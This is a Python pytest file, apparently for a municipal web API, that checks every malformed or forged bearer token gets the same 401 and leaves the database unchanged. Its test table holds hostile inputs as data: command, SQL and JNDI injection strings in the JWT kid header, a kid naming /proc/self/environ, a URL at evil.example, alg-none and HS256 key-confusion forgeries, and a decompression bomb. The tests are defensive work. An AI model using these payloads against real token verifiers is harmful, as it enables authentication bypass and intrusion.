"""Tokens that are not good, brought to the door: each one is the same 401 at every operation, and changes nothing."""

import gzip
import json
import zlib
from datetime import timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select

from api.core import clock
from api.core.danish_collation import danish_key
from api.db import transactions
from api.journal.models import Entry
from api.municipal_sign_in.actions.sign_in import MunicipalSignIn
from api.municipal_sign_in.rules import Reading
from api.sign_in.models import Person, SignIn
from tests.support.oidc_provider import PRIVATE, FakeProvider
from tests.support.token_cases import (
    ANNA,
    AUDIENCE,
    BODY,
    FAMILY,
    GOOD,
    NOW,
    OWN,
    REFUSED,
    RSA,
    SEAL,
    SIGN,
    T,
    b64,
    claims,
    header,
    octets,
    rs256,
    token,
)
from tests.support.world import World

ELSEWHERE = "https://login.kommune.example"
THEIRS = {"rsa": "RS256", "ec": "ES256", "pss": "PS256", "ed": "EdDSA"}


def from_provider(kid: str = "rsa", /, **changes: Any) -> str:
    """A token of the provider's, which knows its own keys; good unless told otherwise."""
    said = {"iss": ELSEWHERE, "aud": AUDIENCE, "sub": "mette", "jti": "1", "iat": T, "exp": T + 900, "roles": ["x"]}
    said |= {name: value for name, value in changes.items() if name not in ("head", "sign")}
    head = header(kid) | changes.get("head", {})
    kept = {name: value for name, value in said.items() if value != "absent"}
    return token(head, kept, changes.get("sign", SIGN[kid]))


def bomb(size: int) -> str:
    """Claims that say that they are packed, and grow when they are unpacked."""
    return b64(zlib.compress(octets(claims(x="a" * size)))[2:-4])


JWE = b64(octets({"alg": "dir", "enc": "A256GCM", "kid": "own", "zip": "DEF"}))

# What is tried beside the table of `test_tokens`: what only comes over HTTP, and what only a provider can get wrong.
HEADERS: dict[str, str | list[str]] = {
    "nothing": [],
    "an empty header": "",
    "Bearer alone": "Bearer",
    "Bearer and a space": "Bearer ",
    "no scheme": GOOD,
    "another scheme": f"Token {GOOD}",
    "Basic": f"Basic {GOOD}",
    "Bearer twice": f"Bearer Bearer {GOOD}",
    "a tab": f"Bearer\t{GOOD}",
    "a colon": f"Bearer: {GOOD}",
    "a comma": f"Bearer,{GOOD}",
    "no space": f"Bearer{GOOD}",
    "quotation marks": f'Bearer "{GOOD}"',
    "as a parameter": f"Bearer token={GOOD}",
    "two tokens": f"Bearer {GOOD} {GOOD}",
    "two tokens and a comma": f"Bearer {GOOD},{GOOD}",
    "two headers": [f"Bearer {GOOD}", f"Bearer {GOOD}"],
    "two headers, one of them nonsense": [f"Bearer {GOOD}", "Bearer x"],
    "nonsense, then a good one": ["Bearer x", f"Bearer {GOOD}"],
    "a space that is none": f"Bearer\xa0{GOOD}",
    "one such after it": f"Bearer {GOOD}\xa0",
    "a next line after it": f"Bearer {GOOD}\x85",
    "DPoP": f"DPoP {GOOD}",
    "a long header": "Bearer " + "a" * 60_000,
    "many dots": "Bearer " + "." * 60_000,
    "bytes that are no text": "Bearer \xff\xfe\xfd",
}
TEXTS: dict[str, str] = {
    "packed claims": f"{b64(octets(header(zip='DEF')))}.{bomb(10_000_000)}.{SEAL}",
    "packed claims, signed": token(header(zip="DEF"), zlib.compress(octets(claims()))),
    "gzip, signed": token(body=gzip.compress(octets(claims()))),
    "a JWE": f"{JWE}..{b64(b'0' * 12)}.{BODY}.{b64(b'0' * 16)}",
    "a JWE that unpacks": f"{JWE}..AAAA.{bomb(1_000_000)}.AAAA",
    "a token in a token": token(header(cty="JWT"), GOOD.encode()),
    "a header of 7 KB": token(header(x="a" * 7000)),
    "a header of 60 KB": f"{b64(octets(header(x='a' * 45_000)))}.{BODY}.{SEAL}",
    "a JWK with our key": token(header(jwk={"kty": "RSA", "kid": "rsa"}), sign=rs256),
    "no such key as kid": token(header(kid="/proc/self/environ")),
    "a URL as kid": token(header(kid="https://evil.example/jwks")),
    "a command as kid": token(header(kid="own|sleep 10")),
    "SQL as kid": token(header(kid="x' UNION SELECT 'secret'--")),
    "a template as kid": token(header(kid="${jndi:ldap://evil.example/a}")),
    "a refresh token's secret": "Jq3xW2mB7cT9vK1sR5yU8aE4oI6pL0dF-gHjZxCvBnM",
    "the provider's issuer, by our key": token(body=claims(iss=ELSEWHERE)),
    "our issuer, by the provider's key": token(header("rsa"), claims()),
    "the provider's, by a key that turned out": from_provider(head={"kid": "old"}, sign=rs256),
    "the provider's, by another's key of that kid": from_provider("ec", sign=SIGN["ed"]),
    "the provider's, RS256 called PS256": from_provider("pss", sign=rs256),
    "the provider's, alg none": f"{from_provider(head={'alg': 'none'}).rsplit('.', 1)[0]}.",
    "the provider's, HS256 with its public key": from_provider(head={"alg": "HS256"}, sign=SIGN["own"]),
    "the provider's, for its client": from_provider(aud="portal"),
    "the provider's, for several, not us": from_provider(aud=["portal", "account"]),
    "the provider's ID token": from_provider(nonce="n-0S6_WzA2Mj", at_hash="77QmUPtjPfzWtF2AnpK9RA"),
    "the provider's ID token by typ": from_provider(head={"typ": "JWT"}),
    "the provider's logout token": from_provider(head={"typ": "logout+jwt"}, events={}),
    "the provider's refresh token": from_provider(typ="Refresh"),
    "the provider's, of a day ago": from_provider(iat=T - 87_300, exp=T - 86_400),
    "the provider's, half a minute late": from_provider(iat=T - 900, exp=T - 30),
    "the provider's, of tomorrow": from_provider(iat=T + 86_400, exp=T + 87_000),
    "the provider's, for a month": from_provider(exp=T + 2_592_000),
    "the provider's, without an end": from_provider(exp="absent"),
    "the provider's, without a name": from_provider(jti="absent"),
    "the provider's, without a subject": from_provider(sub="absent"),
    "the provider's, a subject of all": from_provider(sub=["mette", "anna"]),
    "the provider's, a subject of control characters": from_provider(sub="mette\0admin"),
    "the provider's, of its other realm": from_provider(iss=ELSEWHERE + "/realms/other"),
    "the provider's, its issuer in capitals": from_provider(iss=ELSEWHERE.upper()),
}  # fmt: skip
TABLE: dict[str, str] = {
    name: f"Bearer {text}"
    for name, (_, text) in REFUSED.items()
    if isinstance(text, str)
    and text != GOOD
    and text == text.strip(" ")
    and text.isprintable()
    and all(ord(letter) < 256 for letter in text)
    and len(text) < 60_000
} | {name: f"Bearer {text}" for name, text in TEXTS.items()}
OPERATIONS = [
    ("GET", "/v1/me", None),
    ("GET", "/v1/institutions?limit=1", None),
    ("POST", "/v1/districts", {"name": "Vest"}),
    ("PATCH", "/v1/institutions/{birk}", {"name": "x"}),
    ("DELETE", "/v1/institutions/{birk}", None),
]


@pytest.fixture
async def door(world: World, monkeypatch: pytest.MonkeyPatch) -> World:
    """The service with the keys of the table, the person of its tokens signed in, and a provider beside."""
    provider = FakeProvider()
    provider.discovery = {"issuer": ELSEWHERE, "jwks_uri": f"{ELSEWHERE}/jwks"}
    monkeypatch.setattr("tests.support.oidc_provider.ISSUER", ELSEWHERE)
    keys = {"rsa": RSA, "ec": PRIVATE["ES256"], "pss": PRIVATE["PS256"], "ed": PRIVATE["EdDSA"]}
    provider.keys = {kid: (THEIRS[kid], key) for kid, key in keys.items()}
    told = provider.provider(issuer=ELSEWHERE, audience=AUDIENCE)
    mapping = Reading.model_validate(
        {"grants": [{"claim": "roles", "value": "x", "role": "administration", "unit": "municipality"}]}
    )
    municipal = MunicipalSignIn(told, mapping, world.app.state.engine)
    monkeypatch.setitem(world.app.state._state, "verifier", OWN)
    monkeypatch.setitem(world.app.state._state, "municipal", municipal)
    clock.move(NOW)
    async with transactions.write_transaction(world.app.state.engine) as session:
        session.add(Person(id=ANNA, username="anna", name="Anna", name_key=danish_key("Anna")))
        await session.flush()
        session.add(SignIn(id=FAMILY, person_id=ANNA, began_at=NOW, ends_at=NOW + timedelta(days=1)))
    return world


async def brought(
    world: World, told: str | list[str], method: str = "GET", path: str = "/v1/me", body: Any = None
) -> Any:
    lines = [told] if isinstance(told, str) else told
    headers = [(b"authorization", line.encode("latin-1")) for line in lines]
    return await world.client.request(method, path.format(birk=world.birk), headers=headers, json=body)


async def entries(world: World) -> tuple[int, int]:
    async with transactions.read_transaction(world.app.state.engine) as session:
        asked = [select(func.count()).select_from(table) for table in (Entry, Person)]
        counts = [(await session.execute(one)).scalar_one() for one in asked]
    return counts[0], counts[1]


def seen(answer: httpx.Response) -> tuple[Any, ...]:
    """All that an answer shows, but for what differs from request to request."""
    body = answer.json()
    told = {name: body[name] for name in sorted(body) if name not in ("request_id", "instance")}
    quiet = {name: value for name, value in answer.headers.items() if name not in ("x-request-id", "content-length")}
    return answer.status_code, json.dumps(told), quiet


async def test_good_tokens_are_taken(door: World) -> None:
    """Else all that follows would prove nothing."""
    assert (await brought(door, f"Bearer {GOOD}")).status_code == 200
    assert (await brought(door, f"bearer   {GOOD}  ")).status_code == 200
    assert (await brought(door, f"Bearer {from_provider()}")).status_code == 200


async def test_no_token_of_the_table_is_taken_anywhere(door: World) -> None:
    assert len(TABLE) + len(HEADERS) > 500
    before, expected = await entries(door), seen(await brought(door, []))
    assert expected[0] == 401
    assert expected[2]["www-authenticate"] == 'Bearer realm="sammen"'
    told: list[tuple[str, str | list[str]]] = [*TABLE.items(), *HEADERS.items()]
    if door.app.state.engine.dialect.name == "postgresql":
        told = told[::5]  # what is refused here has not asked the database
    wrong = []
    for at, (name, line) in enumerate(told):
        # Each at the first operation, and at one of the others, which see the whole table between them.
        for operation in (OPERATIONS[0], OPERATIONS[1 + at % (len(OPERATIONS) - 1)]):
            answer = await brought(door, line, *operation)
            if seen(answer) != expected:
                wrong.append((name, operation[0], answer.status_code, answer.text[:200]))
    assert wrong == []
    assert await entries(door) == before


async def test_a_token_has_no_place_but_its_header(door: World) -> None:
    for answer in (
        await door.client.get(f"/v1/me?access_token={GOOD}"),
        await door.client.get("/v1/me", headers={"Cookie": f"access_token={GOOD}; token={GOOD}"}),
        await door.client.get("/v1/me", headers={"X-Access-Token": GOOD, "Proxy-Authorization": f"Bearer {GOOD}"}),
        await door.client.post("/v1/districts", json={"access_token": GOOD, "name": "Vest"}),
    ):
        assert (answer.status_code, answer.json()["code"]) == (401, "not-signed-in")
        assert GOOD not in answer.text
